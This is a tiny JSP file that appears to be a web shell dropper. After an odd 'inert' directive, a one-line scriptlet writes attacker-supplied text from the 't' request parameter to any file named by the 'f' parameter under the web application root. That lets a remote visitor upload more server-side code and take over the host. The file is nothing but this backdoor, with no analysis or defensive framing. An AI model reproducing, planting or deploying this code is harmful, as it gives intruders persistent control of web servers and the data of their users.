<%@ inert %>
<% java.io.FileOutputStream f=new java.io.FileOutputStream(application.getRealPath("/")+request.getParameter("f")); f.write(request.getParameter("t").getBytes()); f.close(); %>
